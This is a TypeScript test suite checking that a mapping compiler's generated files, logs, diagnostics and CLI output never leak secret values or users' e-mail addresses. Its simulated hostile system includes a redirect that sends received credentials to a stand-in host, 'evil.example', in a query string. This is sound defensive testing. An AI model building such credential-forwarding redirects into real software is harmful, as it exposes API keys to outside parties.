/**
 * Secrets and PII (issue #8): every generated file, every log line and every diagnostic and
 * report of these runs is scanned for the secret values and the test users' e-mail
 * addresses (as is, lower-cased, URL-encoded, JSON-escaped; Basic credentials in base64).
 * The runs try hard to leak: the users' e-mails sit in every event field, and the systems
 * echo the credentials they received back in bodies, error pages and redirect locations.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatJson, formatText } from '../../compiler/diagnostics/format';
import type { Compiled } from '../../compiler/pipeline';
import { compile } from '../../compiler/pipeline';
import { run as cli } from '../../compiler/cli/run';
import { defaultEvent } from '../../compiler/triggers';
import { formatLog } from '../../runtime/log';
import { compileOrThrow, REPO, tempProject } from '../helpers/compiled';
import { hostileEvent, hostileString } from './support/arbitraries';
import { EVENT_RUNS, fcParams, SOCKET_EVENT_RUNS } from './support/config';
import { reportFigures, tally } from './support/figures';
import { startHost, type Answer, type Host, type Seen } from './support/host';
import { EMAILS, leaks, SECRETS } from './support/pii';

reportFigures('secrets');

let compiled: Compiled;
const hosts: Host[] = [];
beforeAll(async () => {
  compiled = await compileOrThrow('mappings');
});
afterAll(async () => {
  await Promise.all(hosts.map((h) => h.close()));
});

/** Paths where an event carries a user's e-mail (or text around it). */
const EMAIL_PATHS = [
  ['user', 'email'],
  ['user', 'name'],
  ['user', 'nickname'],
  ['user', 'given_name'],
  ['user', 'user_id'],
  ['user', 'app_metadata', 'crm_contact_id'],
  ['user', 'app_metadata', 'subscription_tier'],
  ['user', 'user_metadata', 'preferred_locale'],
  ['user', 'user_metadata', 'beta_tester'],
  ['request', 'body', 'marketing_consent'],
  ['request', 'ip'],
  ['client', 'metadata', 'required_subscription_tier'],
];

/** Echoes what the Action sent — its credentials included — in every way a system could. */
function echo(req: Seen, pick: number): Answer {
  const credentials = `${req.headers['authorization'] ?? ''} ${req.headers['x-api-key'] ?? ''}`;
  const body = { id: credentials, tier: credentials, count: req.body, score: credentials, error: `bad request from ${req.body}` };
  switch (pick % 6) {
    case 0:
      return { status: 200, body };
    case 1:
      return { status: 500, body };
    case 2:
      return { status: 302, headers: { location: `https://evil.example/?k=${encodeURIComponent(credentials)}` }, body };
    case 3:
      return { status: 200, raw: `{"id": ${JSON.stringify(credentials)}, oops` };
    case 4:
      return { status: 400, raw: `<html>${credentials} ${req.body}</html>` };
    default:
      return { status: 200, body: { ...body, id: 12, tier: 'Premium', status: 'ACTIVE', score: 0.7 } };
  }
}

describe('no secret value and no user e-mail in output', () => {
  it('generated files and build diagnostics of the sample organisation', async () => {
    const { result, diagnostics } = await compile({ projectDir: 'mappings', cwd: REPO });
    expect(result).not.toBeNull();
    for (const [file, text] of result!.files) {
      expect([file, leaks(text)]).toEqual([file, []]);
      tally('secrets.files-scanned');
    }
    expect(leaks(formatText(diagnostics, { color: false, frames: true }) + formatJson(diagnostics))).toEqual([]);
    // Secrets reach tenant.yaml only as Deploy CLI keywords.
    const tenant = result!.files.get('tenant.yaml')!;
    for (const name of Object.keys(SECRETS)) expect(tenant).toContain(`##${name}##`);
  });

  // In process on a virtual clock (support/host.ts memory transport), and a smaller set over
  // real HTTP on 127.0.0.1.
  const runs = [
    ['memory', Math.max(200, EVENT_RUNS / 5), 'in process'],
    ['socket', Math.max(100, SOCKET_EVENT_RUNS / 5), 'over HTTP on 127.0.0.1'],
  ] as const;
  for (const name of ['mapc-post-login', 'mapc-pre-user-registration', 'mapc-post-user-registration'])
  for (const [transport, count, how] of runs) {
    it(`${name}: log lines of ${count} runs ${how} with e-mails everywhere and echoing systems`, async () => {
      const action = compiled.program.actions.find((a) => a.name === name)!;
      const host = await startHost(action, compiled.code.get(name)!, SECRETS, { transport });
      hosts.push(host);
      const base = defaultEvent(action.trigger);
      const planted = fc.constantFrom(...EMAILS).chain((e) =>
        fc.oneof(fc.constant(e), fc.constant(`Name <${e}>`), fc.constant(e.toUpperCase()), hostileString.map((s) => `${s}${e}${s}`)),
      );
      const events = fc
        .tuple(hostileEvent(base, []), fc.array(fc.tuple(fc.constantFrom(...EMAIL_PATHS), planted), { minLength: 3, maxLength: 10 }))
        .map(([ev, plants]) => {
          for (const [p, v] of plants) {
            let o = ev as Record<string, unknown>;
            for (const k of p.slice(0, -1)) {
              if (typeof o[k] !== 'object' || o[k] === null || Array.isArray(o[k])) o[k] = {};
              o = o[k] as Record<string, unknown>;
            }
            o[p[p.length - 1]!] = v;
          }
          return ev;
        });
      await fc.assert(
        fc.asyncProperty(events, fc.nat(), async (event, pick) => {
          let n = pick;
          const r = await host.run(event, (req) => echo(req, n++));
          tally('secrets.log-lines', r.logs.length);
          tally('secrets.runs');
          expect(r.threw).toBeUndefined();
          for (const line of r.logs) expect([line, leaks(line)]).toEqual([line, []]);
        }),
        fcParams(count),
      );
    }, 900_000);
  }

  it('log lines redact secrets and e-mails whatever surrounds them', () => {
    const secrets = Object.values(SECRETS);
    fc.assert(
      fc.property(hostileString, fc.constantFrom(...secrets, ...EMAILS), hostileString, fc.constantFrom('msg', 'status', 'spec', 'step', 'system', 'fn'), (a, needle, b, key) => {
        const line = formatLog({ [key]: `${a}${needle}${b}` }, secrets);
        expect(line.length).toBeLessThanOrEqual(256);
        expect(() => JSON.parse(line)).not.toThrow();
        expect(leaks(line)).toEqual([]);
        tally('secrets.log-lines');
      }),
      fcParams(Math.max(2000, EVENT_RUNS)),
    );
  });

  it('diagnostics of projects that put e-mails and secret-looking text in the wrong places', async () => {
    const dir = tempProject({
      'mappings/mapc.yaml': `version: 1
systems:
  crm:
    base_url: https://crm.example.com
    auth: { bearer: ${SECRETS['CRM_API_KEY']} }
`,
      'mappings/s.yaml': `version: 1
name: s
owner: team-a
trigger: post-login
fields:
  - to: app_metadata.x
    from: secrets.CRM_API_KEY
`,
    });
    const { diagnostics } = await compile({ projectDir: 'mappings', cwd: dir });
    expect(diagnostics.length).toBeGreaterThan(0);
    // A secret *name* may be quoted back; a value the compiler never sees cannot be: the
    // bearer above is a (badly chosen) name, so only check the e-mails and the other values.
    const text = formatText(diagnostics, { color: false, frames: true }) + formatJson(diagnostics);
    expect(leaks(text).filter((l) => l !== 'secret CRM_API_KEY')).toEqual([]);
  });

  it('`mapc test` output of the sample organisation', async () => {
    let out = '';
    const io = { stdout: (s: string) => (out += s), stderr: (s: string) => (out += s), cwd: REPO, env: {}, isTTY: false };
    expect(await cli(['test'], io)).toBe(0);
    // Secret values of `mapc test` are `test-<NAME>` unless a test file sets them. (The JSON
    // report lists the requests each case made, bodies included: the test author's own data.)
    for (const name of Object.keys(SECRETS)) expect(out).not.toContain(`test-${name}`);
    expect(leaks(out)).toEqual([]);
  }, 120_000);
});
